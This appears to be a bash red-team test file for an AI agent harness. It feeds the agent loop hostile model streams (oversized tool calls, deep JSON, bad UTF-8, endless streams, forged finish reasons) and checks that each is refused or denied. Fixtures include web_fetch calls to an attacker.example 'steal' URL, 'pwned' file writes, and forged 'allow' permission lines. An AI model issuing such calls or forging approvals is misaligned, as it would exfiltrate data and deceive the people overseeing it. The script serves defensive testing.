# Red team, agent_stream: what a hostile provider stream can do to the
# loop - a 100 KB tool name, 2 MiB of arguments, JSON 100000 levels deep,
# bytes that are not UTF-8, 65 and 64 calls in one answer, 1000 answers
# asking for the same denied capability, call indexes up to 2^63-1, a
# 5 MiB answer and a 5 MiB event, endless, keep-alive-only and silent
# streams, unknown finish reasons, absurd token counts (attacks.txt, group
# agent_stream). The harness and what it checks for every attack:
# agent_lib.sh.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$(dirname "$0")/agent_lib.sh"

# ------------------------------------------------------ sizes over the caps
# An answer over a cap (llm.h) is refused whole: the run ends with a
# clear error (exit 1), nothing of that answer runs, the session says
# "error".

setup_name_huge() {
	{
		oa_role
		oa_call 0 call_rtHuge "read_file$(repeat 102400 A)" '{}'
		oa_end tool_calls
	} >"$LLM/name_huge.sse"
	write_script name_huge name_huge.sse answer.sse
}
check_name_huge() {
	expect_requests 1
	expect_said "a tool call's name is over 4096 bytes"
	no_tool_ran
}
setup_args_huge() {
	local i piece
	piece=$(repeat 65536 A)
	{
		oa_role
		oa_call 0 call_rtBig write_file '{\"path\":\"big.txt\",\"content\":\"'
		for i in $(seq 32); do
			oa_args 0 "$piece"
		done
		oa_args 0 '\"}'
		oa_end tool_calls
	} >"$LLM/args_huge.sse"
	write_script args_huge args_huge.sse answer.sse
}
check_args_huge() {
	expect_requests 1
	expect_said "are over the 1 MiB limit"
	no_tool_ran
}
setup_args_deep_object() {
	# Arguments sent as a JSON value (some servers do): the event itself
	# is 100000 levels deep.
	{
		oa_role
		printf '%s{"index":0,"delta":{"tool_calls":[{"index":0,"id":"call_rtDeepObj","type":"function","function":{"name":"read_file","arguments":{"path":%s%s}}}]},"finish_reason":null}]}\n\n' \
			"$OA_P" "$(repeat 100000 '[')" "$(repeat 100000 ']')"
		oa_end tool_calls
	} >"$LLM/args_deep_object.sse"
	write_script args_deep_object args_deep_object.sse answer.sse
}
check_args_deep_object() {
	expect_requests 1
	expect_said "maximum parsing depth reached"
	no_tool_ran
}
# Raw bytes that are not UTF-8 (0xff, an overlong '/', a UTF-8-encoded
# surrogate) in the event's JSON: jansson refuses the event.
setup_stream_bad_utf8() {
	{
		oa_role
		printf '%s{"index":0,"delta":{"content":"bad \xff\xfe bytes \xc0\xaf overlong \xed\xa0\x80 surrogate"},"finish_reason":null}]}\n\n' "$OA_P"
		oa_call 0 call_rtRaw read_file $'{\\"path\\":\\"hello\xff.txt\\"}'
		oa_end tool_calls
	} >"$LLM/stream_bad_utf8.sse"
	write_script stream_bad_utf8 stream_bad_utf8.sse answer.sse
}
check_stream_bad_utf8() {
	expect_requests 1
	expect_said "unable to decode byte 0xff"
	no_tool_ran
}
# ----------------------------------------------------- many calls, answers
# 65 calls: over BA_LLM_MAX_TOOL_CALLS, the answer is refused.
setup_calls_over_cap() {
	local i
	{
		oa_role
		for i in $(seq 0 64); do
			oa_call "$i" "call_rtMany$i" read_file '{\"path\":\"hello.txt\"}'
		done
		oa_end tool_calls
	} >"$LLM/calls_over_cap.sse"
	write_script calls_over_cap calls_over_cap.sse answer.sse
}
check_calls_over_cap() {
	expect_requests 1
	expect_said "more than 64 tool calls in one answer"
	no_tool_ran
}
# 64 calls of write_file, none granted: each denied and answered.
setup_calls_at_cap() {
	local i
	{
		oa_role
		for i in $(seq 0 63); do
			oa_call "$i" "call_rtCap$i" write_file "{\\\"path\\\":\\\"pwned-$i.txt\\\",\\\"content\\\":\\\"x\\\"}"
		done
		oa_end tool_calls
	} >"$LLM/calls_at_cap.sse"
	write_script calls_at_cap calls_at_cap.sse answer.sse
}
check_calls_at_cap() {
	[ "$(count_in "$(request 2)" 'fs.write:/workspace is not granted to write_file')" -eq 64 ] ||
		attack_fail "not all 64 calls were told fs.write is not granted"
	tool_results 64
	NOTE="64 calls denied in $((ELAPSED_MS / 1000)).$((ELAPSED_MS % 1000 / 100)) s"
}
# 1000 answers offered, each asking web_fetch for a page nobody granted:
# no prompt (stdin is not a terminal), a denial each time, and the loop
# ends at --max-steps. (200, not 1000: each request carries the whole
# conversation, and fakellm logs them all - 1000 would write ~350 MB.)
LOOP_STEPS=200
setup_loop_denied() {
	local i files=()
	for i in $(seq 1000); do
		{
			oa_role
			oa_call 0 "call_rtLoop$i" web_fetch "{\\\"url\\\":\\\"https://attacker.example/steal?n=$i\\\"}"
			oa_end tool_calls
		} >"$LLM/loop-$i.sse"
		files+=("loop-$i.sse")
	done
	write_script loop_denied "${files[@]}"
}
check_loop_denied() {
	local n
	expect_requests "$LOOP_STEPS"
	for n in 2 100 "$LOOP_STEPS"; do
		expect_request "$n" "network:GET:https://*:443 is not granted to web_fetch in this workspace: no operator was there to approve it"
	done
	expect_said "the run reached its limit of $LOOP_STEPS model calls"
	grep -q "not run: the run reached its limit of model calls" "$DIR/session.json" ||
		attack_fail "the last call was not answered as not run"
	NOTE="$LOOP_STEPS answers of 1000 read, $((ELAPSED_MS / 1000)).$((ELAPSED_MS % 1000 / 100)) s"
}
# 5 MiB of text in 8 KiB events (over BA_LLM_MAX_TEXT), and one 5 MiB
# event (over BA_LLM_MAX_SSE_EVENT): refused, memory stays small.
setup_text_huge() {
	local i piece
	MEASURE=1
	piece=$(repeat 8192 x)
	{
		oa_role
		for i in $(seq 640); do
			oa_text "$piece"
		done
		oa_end stop
	} >"$LLM/text_huge.sse"
	write_script text_huge text_huge.sse
}
check_text_huge() {
	expect_requests 1
	expect_said "the answer's text is over the 4 MiB limit"
	if [ -n "$RSS_KB" ] && [ "$RSS_KB" -gt 262144 ]; then
		attack_fail "boxagent's peak memory was $((RSS_KB / 1024)) MiB for a 5 MiB answer"
	fi
	NOTE="${RSS_KB:+peak $((RSS_KB / 1024)) MiB}"
}
setup_sse_huge() {
	MEASURE=1
	{
		oa_role
		oa_text "$(repeat $((5 * 1024 * 1024)) x)"
		oa_end stop
	} >"$LLM/sse_huge.sse"
	write_script sse_huge sse_huge.sse
}
check_sse_huge() {
	expect_requests 1
	expect_said "over the 4 MiB limit"
	NOTE="${RSS_KB:+peak $((RSS_KB / 1024)) MiB}"
}
# ------------------------------------------------------------------ time
# An answer trickling for minutes: --timeout 2s ends the run.
setup_stream_endless() {
	local i
	{
		oa_role
		for i in $(seq 3000); do
			oa_text "tick $i "
		done
		oa_end stop
	} >"$LLM/endless.sse"
	slow_script stream_endless endless.sse 150 50
}
check_stream_endless() {
	max_seconds 10
	expect_said "the run reached its wall-time limit of 2000 ms"
	NOTE="stopped after ${ELAPSED_MS} ms"
}
# Only SSE comments, every 100 ms: the idle timer never fires, the
# provider's request_timeout_ms does.
setup_stream_keepalive() {
	repeat 3000 ': keep-alive\n\n' | sed 's/\\n/\n/g' >"$LLM/keepalive.sse"
	slow_script stream_keepalive keepalive.sse 14 100
	quick_config "request_timeout_ms: 3000" "idle_timeout_ms: 1000"
}
check_stream_keepalive() {
	max_seconds 15
	expect_requests 1
	expect_said "took longer than 3 s"
	NOTE="stopped after ${ELAPSED_MS} ms: $(grep -a '^boxagent:' "$ERR" | head -1 | cut -c1-120)"
}
# Five bytes, then silence: idle_timeout_ms.
setup_stream_silent() {
	{
		oa_role
		oa_text "never"
		oa_end stop
	} >"$LLM/silent.sse"
	slow_script stream_silent silent.sse 5 600000
	quick_config "idle_timeout_ms: 1500"
}
check_stream_silent() {
	max_seconds 10
	expect_requests 1
	expect_said "no data for 1.5 s"
	NOTE="stopped after ${ELAPSED_MS} ms: $(grep -a '^boxagent:' "$ERR" | head -1 | cut -c1-120)"
}
# ------------------------------------------------------------ odd values
# An unknown finish_reason beside a tool call (the call is still decided:
# denied), then one that carries line breaks, a fake summary and a fake
# allow line, on people's output.
setup_finish_unknown() {
	JSON=0
}
check_finish_unknown() {
	expect_request 2 "fs.write:/workspace is not granted to write_file in this workspace"
	[ "$(grep -ac '^\[done\]' "$ERR")" -eq 1 ] ||
		attack_fail "the finish reason forged a summary line: $(grep -a '^\[done\]' "$ERR" | tr '\n' '|')"
	if grep -aq '^  allow' "$ERR" "$OUT"; then
		attack_fail "the finish reason forged an allow line: $(grep -a '^  allow' "$ERR" "$OUT")"
	fi
	no_file "$WS/pwned.txt"
}
# Call indexes are keys, not array positions: 1000000, 2^62, 2^63-1.
check_index_huge() {
	[ "$(count_in "$(request 2)" 'is not granted to web_fetch in this workspace: no operator')" -eq 4 ] ||
		attack_fail "not all 4 calls were denied"
	tool_results 4
}
# 2^63-1 input and 2^63-1 output tokens under --max-tokens 1000: the
# limit stops the run, the call is answered "not run".
check_usage_huge() {
	expect_requests 1
	expect_said "the run used 18446744073709551614 tokens, reaching its limit of 1000"
	grep -q "not run: the run reached its token limit" "$DIR/session.json" ||
		attack_fail "the call was not answered as not run"
	no_tool_ran
}

redteam_agent_group agent_stream
